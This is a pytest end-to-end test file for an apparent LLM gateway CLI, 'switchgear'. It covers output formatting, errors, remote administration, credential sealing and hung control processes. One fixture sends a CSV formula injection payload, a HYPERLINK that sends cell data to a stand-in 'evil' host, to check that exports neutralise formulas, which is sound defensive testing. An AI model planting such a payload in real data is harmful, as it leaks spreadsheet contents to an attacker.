"""The command line against running gateways: examples, servers, silence, what is shown."""

import contextlib
import csv
import io
import json
import os
import re
import shlex
import signal
import subprocess
import sys
import urllib.request

import pytest
from tests.end_to_end.setups import ENVIRON, config
from tests.test_commands import LEAVES, examples_of

from switchgear.cli.output import width_of
from switchgear.testing.gateway import GatewayProcess
from switchgear.testing.patience import PATIENCE_S, until

CLI = [sys.executable, "-m", "switchgear.cli"]


@pytest.fixture(scope="module")
def own(provider, tmp_path_factory):
    """A gateway that these tests may change."""
    home = tmp_path_factory.mktemp("home")
    running = GatewayProcess(config(provider.port), workers=1, environ={**ENVIRON, "XDG_CONFIG_HOME": str(home)})
    yield running
    assert running.stop() == 0


@pytest.fixture(scope="module")
def admin(own):
    return own.json("token", "create", "tests", "--role", "admin")["token"]


def ask(gateway, key, model="fast"):
    body = json.dumps({"model": model, "messages": [{"role": "user", "content": "hi"}]}).encode()
    request = urllib.request.Request(gateway.url + "/v1/chat/completions", body, {"authorization": f"Bearer {key}", "content-type": "application/json"})  # fmt: skip
    try:
        with urllib.request.urlopen(request, timeout=PATIENCE_S) as answer:
            return answer.status, answer.headers["x-request-id"]
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers["x-request-id"]


def remote(gateway, token, *arguments, stdin=None, home=None, **environ):
    """Run a command from elsewhere: without the data folder."""
    done = subprocess.run(
        [*CLI, *arguments],
        input=stdin,
        capture_output=True,
        text=True,
        check=False,
        timeout=PATIENCE_S,
        env={**os.environ, "SWITCHGEAR_TOKEN": token, "SWITCHGEAR_DATA": "/nowhere", "XDG_CONFIG_HOME": str(home or gateway.folder / "elsewhere"), **environ},
    )  # fmt: skip
    assert "Traceback" not in done.stderr and "Warning" not in done.stderr, done.stderr
    return done


# examples

NOT_RUN = {
    "serve": "starts a gateway", "doctor": "asks osv.dev, and reads a publisher's files", "discover": "looks at the whole machine, and at hosts",
    "log tail": "goes on until Ctrl-C", "findings accept": "the id is one of somebody else's", "findings reopen": "the same",
    "config rollback": "needs a history",
}  # fmt: skip
FIRST = ("version", "status", "provider add", "credential add", "model add", "profile create", "team create", "user create", "project create", "key create", "token create", "price set")  # fmt: skip
LAST = ("log cursor remove", "freeze", "unfreeze", "key rotate", "credential disable", "credential enable", "model remove", "credential remove", "provider remove", "token revoke", "key revoke", "project remove", "user remove", "team remove", "profile remove")  # fmt: skip
CODES = {"credential test": 1, "model test": 1, "config diff": 1}
"""Exit codes that are right too: providers cannot be reached from a test, and the file is another one."""
OTHERS_ID = "01a2088ac070"


def test_the_examples_of_every_command_work(tmp_path):
    gateway = GatewayProcess("", workers=1, arguments=("--demo",))
    files = {
        "switchgear.yaml": "models: {of-the-file: demo/echo}\n",
        "config.yaml": "model_list: [{model_name: m, litellm_params: {model: openai/gpt-4o-mini, api_key: os.environ/K}}]\n",
    }
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    environ = {**os.environ, "K": "sk-proj-0123456789abcdef", "AZURE_KEY": "0123456789abcdef0123456789abcdef", "SWITCHGEAR_DATA": str(gateway.data), "XDG_CONFIG_HOME": str(tmp_path / "home")}  # fmt: skip
    rank = {name: n for n, name in enumerate(FIRST)} | {name: 1000 + n for n, name in enumerate(LAST)}
    found = [(" ".join(path[1:]), line) for path, command in LEAVES.items() for line in examples_of(command)]
    assert set(NOT_RUN) | set(FIRST) | set(LAST) <= {name for name, _ in found}
    failed = []
    try:
        gateway.cli("credential", "add", "groq", "--from-stdin", stdin="gsk_0123456789abcdef")
        for kind in ("team", "user", "project", "profile"):
            gateway.cli(kind, "create", "other")
        for name, line in sorted(found, key=lambda one: rank.get(one[0], 100)):
            plain = re.sub(r"\s{3,}.*", "", line)
            is_placeholder = (
                "…" in plain
                or "--server https:" in plain
                or "--watch" in plain
                or "--follow" in plain
                or OTHERS_ID in plain
                or "postgresql:" in plain
            )
            if name in NOT_RUN or is_placeholder:
                continue
            given = re.search(r"switchgear [^|;)]*", plain).group().partition(" > ")[0]
            stdin = "sk-proj-0123456789abcdef\n" if name == "credential add" else None
            done = subprocess.run([*CLI, *shlex.split(given)[1:]], input=stdin, capture_output=True, text=True, check=False, timeout=PATIENCE_S, cwd=tmp_path, env=environ, stdin=None if stdin else subprocess.DEVNULL)  # fmt: skip
            assert "Traceback" not in done.stderr and "Warning" not in done.stderr, (line, done.stderr)
            is_repeated = name == "credential add" and "--yes" in done.stderr  # three ways of adding one credential
            if done.returncode not in {0, CODES.get(name, 0)} and not is_repeated:
                failed.append((line, done.returncode, done.stdout[-300:], done.stderr))
    finally:
        gateway.stop()
    assert not failed, "\n".join(map(str, failed))


# answers


@pytest.fixture(scope="module")
def asked(own):
    """A key that asked for a model that is there, and for one that is named like a formula."""
    key = own.key("ci-with-a-long-name-for-tables", "--team", "quality-assurance")
    good = ask(own, key)[1]
    bad = ask(own, key, '=HYPERLINK("http://evil/?"&A1,"x")')[1]
    until(lambda: len(own.json("log", "list", "--key", "ci-with-a-long-name-for-tables")["records"]) >= 2)
    return good, bad


LISTS = ["key list", "log list", "usage --by key,model,provider", "provider list", "credential list", "model list", "token list", "price list --provider openai", "key log ci-with-a-long-name-for-tables"]  # fmt: skip


@pytest.mark.parametrize("width", [80, 100, 132])
@pytest.mark.parametrize("command", LISTS)
def test_lists_fit_a_terminal_and_ids_can_be_copied(own, asked, command, width):
    done = subprocess.run([*CLI, *command.split(), "--data", str(own.data)], capture_output=True, text=True, check=True, env={**os.environ, "COLUMNS": str(width)})  # fmt: skip
    head, *lines = done.stdout.splitlines()
    assert all(width_of(line) <= width for line in [head, *lines] if not line.startswith(("callable", "total", "more")))
    if command.startswith(("log", "key log")):
        assert asked[0] in done.stdout.split() and asked[1] in done.stdout.split()
    assert own.cli(*command.split(), "-o", "csv").stdout.count("\n") >= 1


def test_csv_has_no_formula_and_times_have_a_zone(own, asked):
    for command in ("log list", "usage --by model"):
        table = list(csv.DictReader(io.StringIO(own.cli(*command.split(), "-o", "csv").stdout)))
        assert not [cell for row in table for cell in row.values() if cell[:1] in "=+-@" and cell]
        assert any(row["model"].startswith("'=HYPERLINK") for row in table)
    row = next(r for r in csv.DictReader(io.StringIO(own.cli("log", "list", "-o", "csv", "--tz", "Asia/Kolkata").stdout)) if r["id"] == asked[1])  # fmt: skip
    assert row["time"].endswith("+05:30") and row["provider"] == "" and row["in"] == ""


def test_the_beginning_of_an_id_is_enough(own, asked):
    good, bad = asked
    assert own.json("log", "show", good[:31])["id"] == good or good[:31] == bad[:31]
    common = good[: next(n for n, (a, b) in enumerate(zip(good, bad, strict=True)) if a != b)]
    assert len(common) >= 6
    done = own.cli("log", "show", common, check=False)
    assert done.returncode == 2 and good in done.stderr and bad in done.stderr
    found = own.json("key", "show", "ci-with-a-long-name-for-tables")
    assert own.json("key", "get", found["id"][:6])["name"] == "ci-with-a-long-name-for-tables"
    own.cli("project", "create", "p")
    assert own.json("key", "update", found["id"][:6], "--project", "p")["project"] == "p"
    assert "did you mean" in own.cli("key", "show", "ci-with-a-long-name-for-table", check=False).stderr


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ("log list --outcome nope", "no outcome"), ("log list --outcome timeot", "did you mean 'timeout'"), ("log list --key nosuch", "no key"),
        ("log list --team quality-asurance", "did you mean 'quality-assurance'"), ("usage --team nosuch", "no team"), ("usage --provider nosuch", "no provider"),
        ("key log nosuch", "there is no key"), ("credential test nosuch", "there is no credential"),
    ],
)  # fmt: skip
def test_a_filter_that_nothing_has_is_an_error(own, asked, arguments, said):
    done = own.cli(*arguments.split(), check=False)
    assert done.returncode == 2 and said in done.stderr, done


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ("log list --cursor garbage", "no request's id"),
        ("log list --since 1d --until 7d", "nothing can be in between"),
        ("log show 01a2", "6 characters"),
        ("usage --since 2099-01-01", "nothing can be in between"),
        ("usage --month 2026-10 --since 7d", "--month is a time of its own"),
        ("price set fake/echo --free --input 1", "--free alone"),
        ("doctor --trust x", "--advisories"),
        ("discover --root /nowhere", "is not a folder"),
        ("freeze model fake/ecko", "'fake/echo'"),
        ("model remove fast --yes", "declared in the configuration file"),
        ("provider remove fake --yes", "declared in the configuration file"),
        ("freeze provider", "freeze provider NAME"),
        ("credential add openai --from-env NOBODY_HAS_THIS", "is not set here"),
    ],
)
def test_wrong_use_is_said_and_changes_nothing(own, arguments, said):
    done = own.cli(*arguments.split(), check=False)
    assert done.returncode == 2, done
    assert said in done.stderr and "Traceback" not in done.stderr, done


@pytest.mark.parametrize("command", ["config diff", "config apply --dry-run", "config rollback previous --dry-run"])
def test_changes_of_the_configuration_are_rows_in_csv(own, tmp_path, command):
    (tmp_path / "x.yaml").write_text("models: {of-the-file: openai/x}\n")
    file = [] if "rollback" in command else [str(tmp_path / "x.yaml")]
    own.cli("model", "add", "for-csv", "fake/echo")
    done = own.cli(*command.split(), *file, "-o", "csv", check=False)
    own.cli("model", "remove", "for-csv", "--yes")
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert rows[0][-1] in {"new", "change"} and len({len(row) for row in rows}) == 1, done


def test_settings_for_a_model_that_is_not_there_are_printed_with_a_warning(own):
    done = own.cli("connect", "claude-code")  # its default is the demo's, which this gateway has not
    assert "ANTHROPIC_MODEL=demo/echo" in done.stdout and "nothing is served as 'demo/echo'" in done.stderr
    assert own.cli("connect", "claude-code", "--model", "fast").stderr == ""


def test_a_model_that_goes_nowhere_is_explained_with_the_nearest_name(own):
    done = own.cli("model", "explain", "fats", check=False)
    assert done.returncode == 1 and "did you mean 'fast'?" in done.stdout


def test_a_filter_that_matches_no_row_is_no_error(own, asked):
    own.key("never-used")
    for arguments in (
        "log list --key never-used",
        "log list --outcome timeout",
        "log list --slow 10m",
        "log list --model nosuch",
    ):
        assert "no requests match" in own.cli(*arguments.split()).stdout
    assert "made no requests yet" in own.cli("key", "log", "never-used").stdout


def test_a_price_that_is_set_is_charged(own):
    key = own.key("of-prices")
    own.cli("provider", "add", "priced", "--dialect", "openai", "--base-url", own.json("provider", "list")["providers"][0]["base_url"], "--allow-private", "--auth", "none")  # fmt: skip
    own.cli("model", "add", "costly", "priced/echo")
    done = own.cli("price", "set", "costly", "--input", "1000", "--output", "2000")
    assert "priced/echo (what costly leads to)" in done.stdout and done.stderr == ""
    assert "without a price of output" in own.cli("price", "set", "priced/other", "--input", "1").stderr
    status, request = ask(own, key, "costly")
    assert status == 200
    record = until(
        lambda: next((r for r in own.json("log", "list", "--key", "of-prices")["records"] if r["id"] == request), None)
    )
    assert record["cost_nanousd"] == sum(line["cost_nanousd"] for line in record["cost_lines"]) > 0
    assert own.json("price", "show", "costly")["rates"]["output"]["usd_per_mtok"] == "2000"


def test_a_model_is_tested_in_each_of_its_places(own):
    own.cli("model", "add", "two-places", "fake/echo", "nowhere-at-all/x", check=False)
    rows = own.json("model", "test", "fast")["tests"]
    assert rows[0]["target"] == "fast" and all(row["ok"] and row["request_id"] for row in rows)
    assert not [
        key for key in own.json("key", "list")["keys"] if key["name"].startswith("model-test-")
    ]  # revoked after it
    done = own.cli("model", "test", "nosuch", check=False)
    assert done.returncode == 2 and "goes nowhere" in done.stderr


def test_an_edit_of_what_changed_meanwhile_is_a_412(own, admin):
    own.key("edited")
    base = f"http://127.0.0.1:{own.console_port}/api/v1/keys/edited"

    def call(method, body=None, **headers):
        request = urllib.request.Request(base, json.dumps(body).encode() if body else None, {"authorization": f"Bearer {admin}", **headers}, method=method)  # fmt: skip
        try:
            with urllib.request.urlopen(request, timeout=PATIENCE_S) as answer:
                return answer.status, answer.headers["etag"]
        except urllib.error.HTTPError as exc:
            return exc.code, None

    seen = call("GET")[1]
    assert call("PATCH", {"rpm": 900}, **{"if-match": seen})[0] == 200
    assert call("PATCH", {"rpm": 901}, **{"if-match": seen})[0] == 412
    assert call("PATCH", {"rpm": 901, "version": 1})[0] == 412
    assert call("PATCH", {"rpm": 901}, **{"if-match": "*"})[0] == 200
    assert call("PATCH", {"rpm": 901}, **{"if-match": "W/x"})[0] == 400


# from elsewhere


def test_every_list_works_from_elsewhere(own, admin, asked):
    url = f"http://127.0.0.1:{own.console_port}"
    for command in LISTS:
        done = remote(own, admin, *command.split(), "--server", url)
        assert done.returncode == 0, (command, done.stderr)
    status = remote(own, admin, "status", "--server", url).stdout
    assert url in status and "/nowhere" not in status and str(own.data) not in status


def test_C4_a_credential_and_a_configuration_are_sealed_from_elsewhere(own, admin, tmp_path):
    url = f"http://127.0.0.1:{own.console_port}"
    add = ("credential", "add", "deepseek", "--from-stdin", "--server", url)
    done = remote(own, admin, *add, stdin="sk-0123456789abcdef\n", home=tmp_path)
    assert done.returncode == 0 and "sealed deepseek/default (…cdef)" in done.stdout, done.stderr
    printed = own.cli("credential", "vault-key").stdout.strip()
    assert printed in done.stderr and printed in (tmp_path / "switchgear" / "known_vaults").read_text()
    again = remote(own, admin, *add, stdin="sk-0123456789abcdef\n", home=tmp_path)
    assert again.returncode == 2 and "--yes" in again.stderr
    again = remote(own, admin, *add, "--yes", stdin="sk-0123456789abcdeg\n", home=tmp_path)
    assert again.returncode == 0 and "replaced" in again.stdout and "SHA256" not in again.stderr
    (tmp_path / "switchgear" / "known_vaults").write_text(f"{url} SHA256:another\n")
    refused = remote(own, admin, *add, "--yes", stdin="sk-0123456789abcdeh\n", home=tmp_path)
    assert refused.returncode == 1 and "nothing was sealed" in refused.stderr
    pinned = remote(own, admin, *add, "--yes", "--vault-key", printed, stdin="sk-0123456789abcdei\n", home=tmp_path)
    assert pinned.returncode == 0, pinned.stderr
    assert (
        next(c for c in own.json("credential", "list")["credentials"] if c["id"] == "deepseek/default")["last4"]
        == "cdei"
    )
    applied = remote(
        own,
        admin,
        "config",
        "apply",
        str(own.config),
        "--server",
        url,
        "--vault-key",
        printed,
        home=tmp_path,
        **ENVIRON,
    )
    assert applied.returncode == 0 and "applied" in applied.stdout, applied.stderr


def test_a_server_that_cannot_serve_the_command_is_named_with_the_reason(own, admin):
    url = f"http://127.0.0.1:{own.console_port}"
    viewer = own.json("token", "create", "looks-only", "--role", "viewer")["token"]
    for token, server, said in (
        (admin, own.url, "data plane"),
        (admin, "http://127.0.0.1:1", "nothing listens"),
        ("sgat-" + "0" * 64, url, "not valid there"),
        (viewer, url, "viewer may not"),
        (admin, f"http://127.0.0.1:{own.console_port}/x", "not the URL"),
    ):
        done = remote(own, token, "key", "list", "--server", server)
        assert done.returncode in {1, 2} and said in done.stderr, done.stderr
        assert "{" not in done.stderr and "serve --data" not in done.stderr
    done = remote(own, viewer, "doctor", "--server", url)
    assert done.returncode == 4 and "not looked at" in done.stderr


# silence


def test_no_command_hangs_while_control_hangs(own):
    own.key("waits")
    (control,) = own.pids("control")
    os.kill(control, signal.SIGSTOP)
    try:
        status = own.cli("status", check=False)
        listed = own.cli("key", "list", check=False)
    finally:
        with contextlib.suppress(ProcessLookupError):  # it was replaced meanwhile
            os.kill(control, signal.SIGCONT)
    assert status.returncode == 1 and "control" in status.stdout, status.stdout + status.stderr
    replaced = own.pids("control") != [
        control
    ]  # a lifesign that is missed replaces it: then the list came from the next one
    assert replaced or (
        listed.returncode == 1 and "did not answer within" in listed.stderr and "switchgear status" in listed.stderr
    )
    until(lambda: own.cli("key", "list", check=False).returncode == 0)


def test_a_revocation_and_a_freeze_get_through_while_control_hangs(own):
    key = own.key("leaked")
    assert ask(own, key)[0] == 200
    for arguments, status in ((("freeze", "key", "leaked"), 403), (("key", "revoke", "leaked", "--yes"), 401)):
        (control,) = own.pids("control")
        os.kill(control, signal.SIGSTOP)
        done = own.cli(*arguments, check=False)
        with contextlib.suppress(ProcessLookupError):
            os.kill(control, signal.SIGCONT)
        assert done.returncode == 0, done.stderr
        assert ask(own, key)[0] == status
        own.cli("unfreeze", "key", "leaked", check=False)


def test_completion_offers_names_of_the_gateway(own):
    own.key("completed-key")

    def complete(words):
        environ = {"_SWITCHGEAR_COMPLETE": "bash_complete", "COMP_WORDS": words, "COMP_CWORD": str(len(words.split()) - 1), "SWITCHGEAR_DATA": str(own.data)}  # fmt: skip
        return subprocess.run(CLI, capture_output=True, text=True, check=False, env={**os.environ, **environ})

    assert "plain,completed-key" in complete("switchgear key show completed").stdout
    assert "plain,fast" in complete("switchgear model explain fa").stdout
    assert "plain,completed-key" in complete("switchgear log list --key comp").stdout
